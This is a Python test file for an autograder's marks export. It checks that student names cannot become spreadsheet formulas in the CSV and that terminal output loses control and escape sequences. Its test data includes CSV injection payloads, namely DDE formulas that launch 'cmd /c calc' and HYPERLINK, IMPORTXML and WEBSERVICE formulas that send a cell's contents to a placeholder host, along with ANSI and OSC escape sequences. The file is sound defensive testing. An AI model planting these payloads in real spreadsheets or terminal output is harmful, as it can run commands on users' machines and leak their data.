"""What a student is called is one cell of the table of marks and one line on a terminal, and neither computes or obeys it."""

import csv
import re
from types import SimpleNamespace

from nbgrader.api import MissingEntry

from autograder.classroom.export import COLUMNS, Table
from autograder.classroom.pages import cell, terminal

FORMULAS = (
    "=1+1",
    "=cmd|'/c calc'!A0",
    "+cmd|'/c calc'!A0",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    '=HYPERLINK("https://a.example/?"&A1,"marks")',
    '=IMPORTXML(CONCAT("https://a.example/?",A1),"//a")',
    '=WEBSERVICE("https://a.example/"&A1)',
    '=DDE("cmd";"/c calc";"1")',
    "＝1＋1",
    "＋1",
    "－1",
    "＠SUM(1)",
)
STARTS = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\x0b",
    "\x0c",
    "\xa0",
    "\u3000",
    "\u2028",
    "\ufeff",
    "a,",
    "a;",
    "a\t",
    "a|",
)
STARTS += ("a\n", 'a"', 'a",', 'a";', 'a""', "'", '"', '""', ',"', ";'", "a; ", "a,\t", "1;", "a\r\n")
NAMES = [start + formula for start in STARTS for formula in FORMULAS]
CONTROLS = [
    chr(code) for code in (*range(32), *range(0x7F, 0xA0), 0xAD, *range(0x200B, 0x2010), *range(0x2028, 0x202F))
]
CONTROLS += [chr(code) for code in (*range(0x2060, 0x2070), 0xFEFF, *range(0xFFF9, 0xFFFC), 0xE0001, 0xDC80, 0xDFFF)]
SEQUENCES = (
    "[2J",
    "[1A[2K",
    "]0;title\x07",
    "]8;;https://a.example\x07x",
    "P+q544e\x1b\\\\",
    "c",
    "[6n",
    "[31m",
    "_x\x1b\\\\",
)
WORDS = [f"a{control}{text}" for control in CONTROLS for text in ("", "b", "[2J", "ch05 ben: 15 of 15")]
WORDS += [f"{start}{text}" for start in ("\x1b", "\x9b", "\x90", "\x9d") for text in SEQUENCES]


def cells(line, separator):
    """Return the cells that a program may make of a line, one that minds quotes and one that does not."""
    minding = next(csv.reader([line], delimiter=separator))
    return {part.strip('" \t') for part in (*minding, *line.split(separator))}


def test_no_name_is_a_formula_in_any_program(tmp_path):
    assert len(NAMES) > 300
    students = [SimpleNamespace(id=n, last_name=n, first_name=None, email="ada@a.example") for n in NAMES]
    chapter = SimpleNamespace(name="ch05", duedate=None, max_score=15.0)
    marks = SimpleNamespace(score=3.5, late_submission_penalty=1.0, timestamp=None)
    book = SimpleNamespace(assignments=[chapter], students=students, find_submission=lambda *_: marks)
    Table(to=str(tmp_path / "marks.csv")).export(book)
    text = (tmp_path / "marks.csv").read_text(encoding="utf-8")
    _, *lines = text.splitlines()
    assert len(lines) == len(NAMES)
    for row in csv.DictReader(text.splitlines()):
        assert (row["raw_score"], row["score"], row["max_score"], row["email"]) == (
            "3.5",
            "2.5",
            "15.0",
            "ada@a.example",
        )
        assert set(row) == set(COLUMNS)
    for line in lines:
        for separator in ",;\t|":
            for part in cells(line, separator):
                assert not re.match(r"[\s\"]*[-=+@＝＋－＠]", part), part


def test_what_is_no_formula_stays_as_it_is():
    for name in "ada", "Li, Wang", "王 丽", "o'neill", "ann-marie", "ada@a.example", "x=1", "c++", "":
        assert cell(name) == name
    assert (cell(-1.5), cell(None), cell(0)) == (-1.5, "", 0)


def test_who_handed_in_nothing_has_no_points_and_only_those_asked_for_are_written(tmp_path):
    def nothing(*_):
        raise MissingEntry

    students = [SimpleNamespace(id=name, last_name=None, first_name=None, email=None) for name in ("ada", "12")]
    chapters = [SimpleNamespace(name=name, duedate=None, max_score=2.0) for name in ("ch05", "ch06")]
    book = SimpleNamespace(assignments=chapters, students=students, find_submission=nothing)
    Table(to=str(tmp_path / "marks.csv"), student=[12], assignment=["ch06"]).export(book)
    (row,) = csv.DictReader((tmp_path / "marks.csv").read_text().splitlines())
    assert (row["assignment"], row["student_id"], row["score"], row["timestamp"]) == ("ch06", "12", "0.0", "")


def test_a_terminal_gets_one_line_that_it_only_shows():
    assert len(WORDS) > 300
    for word in WORDS:
        line = terminal(word)
        assert line.isprintable()
        assert line.encode()
        assert terminal(line) == line
    assert terminal("a\nb \x1b[2J 王 丽 é") == "a b \\x1b[2J 王 丽 é"
